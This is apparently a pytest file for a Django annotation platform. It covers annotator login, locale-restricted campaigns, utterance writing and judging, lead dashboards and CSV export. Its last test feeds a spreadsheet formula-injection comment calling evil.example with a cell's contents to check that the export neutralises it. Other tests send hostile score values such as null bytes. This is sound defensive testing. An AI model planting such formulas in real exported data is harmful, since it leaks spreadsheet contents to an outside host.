"""The annotator pages and the lead dashboard through Django's test client (the browser tests drive
the same pages in Chromium)."""
import csv
import io

import pytest
from django.test import Client

import factories as f
from parley.collection.models import Judgment, Task
from parley.nlu.models import Utterance

pytestmark = pytest.mark.django_db


def login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_anonymous_goes_to_the_collect_login(world):
    response = Client().get("/collect/")
    assert response.status_code == 302 and response["Location"].startswith("/collect/login/")
    page = Client().get("/collect/login/")
    assert page.status_code == 200 and b'id="id_username"' in page.content


def test_login_page_lets_an_annotator_in(world):
    client = Client()
    response = client.post("/collect/login/", {"username": "amal", "password": "pw-test-1234"})
    assert response.status_code == 302 and response["Location"] == "/collect/"
    assert "ar-SA" in client.get("/collect/").content.decode()


def test_campaign_list_shows_only_native_locales(world):
    hana = login(world["hana"]).get("/collect/").content.decode()
    assert "ja-JP" in hana and "اكتب جملة طبيعية" not in hana  # ar-SA's instructions are not hers
    amal = login(world["amal"]).get("/collect/").content.decode()
    assert 'lang="ar-SA" dir="rtl"' in amal


def test_write_submit_and_judge_through_the_pages(world):
    amal = login(world["amal"])
    response = amal.post(f"/collect/campaigns/{world['campaign'].pk}/next/")
    task = Task.objects.get(assignee=world["amal"])
    assert response["Location"] == f"/collect/tasks/{task.pk}/"
    page = amal.get(f"/collect/tasks/{task.pk}/").content.decode()
    assert '<html lang="ar-SA" dir="rtl">' in page and "اكتب جملة طبيعية" in page
    check = amal.get(f"/collect/tasks/{task.pk}/check/", {"annotated": "wake me [time : five]"}).json()
    assert check["ok"] is False and check["findings"][0]["check"] == "utterance.script_matches_locale"
    bad = amal.post(f"/collect/tasks/{task.pk}/", {"annotated": "wake me [time : five]"})
    assert bad.status_code == 400 and "Arab script" in bad.content.decode()
    good = amal.post(f"/collect/tasks/{task.pk}/", {"annotated": "أيقظني الساعة [time : الخامسة]"})
    assert good.status_code == 302  # on to the next task
    utterance = Utterance.objects.get(source="collected")
    badr = login(world["badr"])
    badr.post(f"/collect/campaigns/{world['campaign'].pk}/next/")
    vtask = Task.objects.get(assignee=world["badr"])
    assert vtask.kind == "validate"
    page = badr.get(f"/collect/tasks/{vtask.pk}/").content.decode()
    assert "أيقظني الساعة الخامسة" in page
    missing = badr.post(f"/collect/tasks/{vtask.pk}/", {"intent_score": "2"})
    assert missing.status_code == 400 and "grammar_score" in missing.content.decode()
    badr.post(f"/collect/tasks/{vtask.pk}/", {"intent_score": "2", "slots_score": "2", "grammar_score": "4",
                                              "spelling_score": "2", "language_identification": "target"})
    assert Judgment.objects.get(annotator=world["badr"]).utterance == utterance
    progress = login(world["amal"]).get("/collect/progress/").content.decode()
    assert 'data-key="submitted">1<' in progress


def test_someone_elses_task_answers_404(world):
    amal = login(world["amal"])
    amal.post(f"/collect/campaigns/{world['campaign'].pk}/next/")
    task = Task.objects.get(assignee=world["amal"])
    badr = login(world["badr"])
    assert badr.get(f"/collect/tasks/{task.pk}/").status_code == 404
    assert badr.get(f"/collect/tasks/{task.pk}/check/", {"annotated": "x"}).status_code == 404
    assert badr.post(f"/collect/tasks/{task.pk}/skip/", {"reason": "x"}).status_code == 404
    hana = login(world["hana"])
    other = f.campaign([f.locale("de-DE")], [world["alarm"]])
    assert hana.post(f"/collect/campaigns/{other.pk}/next/").status_code == 404


def test_skip_page_needs_a_reason(world):
    amal = login(world["amal"])
    amal.post(f"/collect/campaigns/{world['campaign'].pk}/next/")
    task = Task.objects.get(assignee=world["amal"])
    assert amal.post(f"/collect/tasks/{task.pk}/skip/", {"reason": ""}).status_code == 400
    assert amal.post(f"/collect/tasks/{task.pk}/skip/", {"reason": "unclear"}).status_code == 302
    assert Task.objects.get(pk=task.pk).leases.get().skip_reason == "unclear"


def test_lead_dashboard_and_csv_keep_annotator_ids(world):
    lead = f.member("locale_lead", world["ar"], username="lead-ar")
    from parley.collection.services import task_claim_next, task_submit_judgment, task_submit_utterance

    t = task_claim_next(annotator=world["amal"])
    u = task_submit_utterance(task=t, annotator=world["amal"], annotated="أيقظني الساعة [time : الخامسة]")
    for who in ("badr", "carim"):
        v = task_claim_next(annotator=world[who])
        task_submit_judgment(task=v, annotator=world[who], intent_score=1, slots_score=1, grammar_score=3,
                             spelling_score=2, language_identification="target")
    client = login(lead)
    page = client.get(f"/collect/lead/{world['campaign'].pk}/").content.decode()
    assert 'data-locale="ar-SA" data-intent="alarm_set"' in page and 'data-locale="ja-JP"' not in page
    assert "1 / 2" in page
    rows = list(csv.DictReader(io.StringIO(client.get(f"/collect/lead/{world['campaign'].pk}/export.csv").content.decode())))
    assert {r["annotator_id"] for r in rows} == {str(world["badr"].pk), str(world["carim"].pk)}
    assert {r["author_id"] for r in rows} == {str(world["amal"].pk)} and rows[0]["utterance_id"] == str(u.pk)
    annotators = client.get(f"/collect/lead/{world['campaign'].pk}/export.csv?what=annotators").content.decode()
    assert str(world["amal"].pk) in annotators
    # the lead of ar-SA alone may not pause a campaign that also covers ja-JP
    assert client.post(f"/collect/lead/{world['campaign'].pk}/status/", {"to": "paused"}).status_code == 403


# MASSIVE's wording, copied from alexa/massive README.md ("judgments"), not from the code under test.
PUBLISHED = {
    "intent_score": ("Does the sentence match the intent?", {
        "0": "No", "1": "Yes", "2": "It is a reasonable interpretation of the goal"}),
    "slots_score": ("Do all these terms match the categories in square brackets?", {
        "0": "No", "1": "Yes", "2": "There are no words in square brackets (utterance without a slot)"}),
    "grammar_score": ("Read the sentence out loud. Ignore any spelling, punctuation, or capitalization errors. "
                      "Does it sound natural?", {
        "0": "Completely unnatural (nonsensical, cannot be understood at all)",
        "1": "Severe errors (the meaning cannot be understood and doesn't sound natural in your language)",
        "2": "Some errors (the meaning can be understood but it doesn't sound natural in your language)",
        "3": "Good enough (easily understood and sounds almost natural in your language)",
        "4": "Perfect (sounds natural in your language)"}),
    "spelling_score": ("Are all words spelled correctly? Ignore any spelling variances that may be due to "
                       "differences in dialect. Missing spaces should be marked as a spelling error.", {
        "0": "There are more than 2 spelling errors", "1": "There are 1-2 spelling errors",
        "2": "All words are spelled correctly"}),
    "language_identification": ("The following sentence contains words in the following languages "
                                "(check all that apply)", {"target": "target", "english": "english", "other": "other"}),
}


def scales_shown(page: str) -> dict:
    """{scale: (question, {value: meaning}, input type)} as the validation page renders them."""
    import html
    import re

    shown = {}
    for name, kind, body in re.findall(r'<fieldset class="scale" data-scale="([a-z_]+)" data-input="(\w+)"[^>]*>'
                                       r'(.*?)</fieldset>', page, re.S):
        question = html.unescape(re.sub(r"<[^>]+>.*", "", re.search(r"<legend>(.*?)</legend>", body, re.S)[1],
                                        flags=re.S).strip())
        options = {value: html.unescape(" ".join(meaning.split())) for value, meaning in re.findall(
            r'<input type="\w+" name="[a-z_]+" value="([a-z0-9]+)"[^>]*>.*?<span class="meaning">(.*?)</span>',
            body, re.S)}
        shown[name] = (question, options, kind)
    return shown


def validation_task(world, judge="badr"):
    from parley.collection.services import task_claim_next, task_submit_utterance

    task = task_claim_next(annotator=world["amal"])
    task_submit_utterance(task=task, annotator=world["amal"], annotated="أيقظني الساعة [time : الخامسة]")
    client = login(world[judge])
    client.post(f"/collect/campaigns/{world['campaign'].pk}/next/")
    return client, Task.objects.get(assignee=world[judge], kind="validate")


def test_validation_page_shows_the_published_meaning_of_every_score(world):
    client, vtask = validation_task(world)
    page = client.get(f"/collect/tasks/{vtask.pk}/").content.decode()
    shown = scales_shown(page)
    assert {name: (question, options) for name, (question, options, _kind) in shown.items()} == PUBLISHED
    assert [kind for _q, _o, kind in shown.values()] == ["radio"] * 4 + ["checkbox"]  # check all that apply
    assert '<code dir="ltr">alarm_set</code>' in page  # the intent the first question asks about
    # Two judges answering "Yes" everywhere (and two boxes checked) accept: the page stores MASSIVE's values.
    yes = {"intent_score": "1", "slots_score": "1", "grammar_score": "4", "spelling_score": "2",
           "language_identification": ["target", "english"]}
    assert client.post(f"/collect/tasks/{vtask.pk}/", yes).status_code == 302
    assert Judgment.objects.get(task=vtask).language_identification == "target|english"
    carim = login(world["carim"])
    carim.post(f"/collect/campaigns/{world['campaign'].pk}/next/")
    second = Task.objects.get(assignee=world["carim"], kind="validate")
    assert carim.post(f"/collect/tasks/{second.pk}/", {**yes, "language_identification": "target"}).status_code == 302
    assert Utterance.objects.get(source="collected").status == "accepted"


@pytest.mark.parametrize("field, value", [
    ("intent_score", "3"), ("grammar_score", "99999999999999999999999"), ("spelling_score", "٢"),
    ("slots_score", "1\x00"), ("intent_score", "-1"), ("language_identification", "mixed"),
    ("language_identification", ""), ("language_identification", "target\x00"),
    ("comment", "fine\x00"), ("proposed_annotation", "[time : \x00]"),
])
def test_out_of_range_or_hostile_scores_are_a_400_naming_the_field(world, field, value):
    client, vtask = validation_task(world)
    answer = {"intent_score": "1", "slots_score": "1", "grammar_score": "4", "spelling_score": "2",
              "language_identification": ["target", "other"], field: value}
    response = client.post(f"/collect/tasks/{vtask.pk}/", answer)
    assert response.status_code == 400
    page = response.content.decode()
    assert f'<p class="error" data-field="{field}">' in page
    assert not Judgment.objects.filter(task=vtask).exists()
    # what the judge chose is kept on the page that comes back
    if field != "language_identification":
        assert 'name="language_identification" value="other" checked' in page


def test_lead_csv_does_not_hand_a_comment_to_the_spreadsheet_as_a_formula(world):
    """Issue 15, finding 12: an annotator's comment reaches the lead's spreadsheet as text."""
    lead = f.member("locale_lead", world["ar"], username="lead-ar")
    from parley.collection.services import task_claim_next, task_submit_judgment, task_submit_utterance

    task_submit_utterance(task=task_claim_next(annotator=world["amal"]), annotator=world["amal"],
                          annotated="أيقظني الساعة [time : الخامسة]")
    task_submit_judgment(task=task_claim_next(annotator=world["badr"]), annotator=world["badr"], intent_score=2,
                         slots_score=2, grammar_score=3, spelling_score=2, language_identification="target",
                         comment='=HYPERLINK("http://evil.example/?"&A1,"more")')
    text = login(lead).get(f"/collect/lead/{world['campaign'].pk}/export.csv").content.decode()
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["comment"] == '\'=HYPERLINK("http://evil.example/?"&A1,"more")'
